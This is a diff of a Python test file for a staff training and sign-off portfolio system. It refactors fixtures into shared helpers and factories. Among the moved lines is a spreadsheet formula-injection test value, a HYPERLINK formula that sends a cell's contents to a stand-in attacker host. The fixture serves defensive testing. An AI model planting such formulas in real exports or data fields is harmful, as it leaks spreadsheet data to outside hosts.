@@ -14,7 +14,6 @@ from __future__ import annotations
 
 import datetime as dt
 import functools
-from dataclasses import dataclass
 
 import pytest
 from sqlalchemy.orm import Session
@@ -28,51 +27,24 @@ from portfolio.core.clock import today
 from portfolio.core.roles import AccountRole, JobRole
 from portfolio.frameworks import loading
 from portfolio.frameworks.files import SHIPPED, FrameworkSet, read_set
-from portfolio.frameworks.models import Post
 from portfolio.frameworks.schema import QualificationFramework
-from portfolio.people import services as people
-from portfolio.people.models import Department, Organisation, User
-from portfolio.signoff import queries, services
-from portfolio.signoff.models import SignOffDecision, Suspension
+from portfolio.people.models import User
+from portfolio.signoff.models import SignOffDecision
 from portfolio.signoff.status import SupervisionLevel
 from tests import factories
-
-FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
-
-
-@dataclass
-class Trust:
-    org: Organisation
-    ward: Department
-    other: Department
-    post: Post
-    educator: User  # reach: ward A
-    whole_educator: User  # reach: the whole trust
-    supervisor: User
-    admin: User
-    morgan: User
-    alex: User
-    formula: User
-    outsider: User
+from tests.oversight.trust import FORMULA_NAME, Trust, move_to_post
 
 
 def sign_off(session: Session, worker: User, code: str, by: User, days_ago: int) -> SignOffDecision:
     """A paper sign-off observed `days_ago` days ago, typed in today."""
-    context = queries.sign_off_context(session, worker, code, today(), due_window_days=60)
-    assert context is not None
-    return services.transcribe(
-        factories.auditor(session, by),
+    return factories.transcribed(
+        session,
+        worker,
+        code,
         by,
-        context,
-        services.TranscribedDetails(
-            observed_on=today() - dt.timedelta(days=days_ago),
-            supervision=SupervisionLevel.INDIRECT,
-            condition_codes=frozenset(),
-            assessor_name="Vascular access team",
-            assessor_profession=None,
-            source="Trust training record, seen by the practice educator",
-        ),
-        on=today(),
+        days_ago=days_ago,
+        supervision=SupervisionLevel.INDIRECT,
+        source="Trust training record, seen by the practice educator",
     )
 
 
@@ -97,22 +69,6 @@ def qualification(
             planned_start_on=planned,
         ),
         today=today(),
-    )
-
-
-def move_to_post(session: Session, worker: User, post: Post, department: Department) -> None:
-    people.record_appointment(
-        factories.auditor(session),
-        worker,
-        people.AppointmentDetails(
-            effective_from=dt.date(2025, 1, 1),
-            job_role=JobRole.SCSW,
-            trainee=False,
-            afc_band="3",
-            department_id=department.id,
-            started_in_post_on=dt.date(2024, 1, 1),
-            post_id=post.id,
-        ),
     )
 
 
@@ -156,14 +112,7 @@ def trust(session: Session) -> Trust:
     sign_off(session, alex, "CANN", educator, 400)  # expired about a month ago
     sign_off(session, outsider, "A-1", educator, 30)
     suspended = sign_off(session, formula, "A-1", educator, 100)
-    session.add(
-        Suspension(
-            decision_id=suspended.id,
-            starts_on=today(),
-            reason="Long absence",
-            suspended_by_id=educator.id,
-        )
-    )
+    factories.suspension(session, suspended, educator, reason="Long absence")
     qualification(session, formula, "gcse-9-4", QualificationStatus.ACHIEVED, admin)
     qualification(
         session,
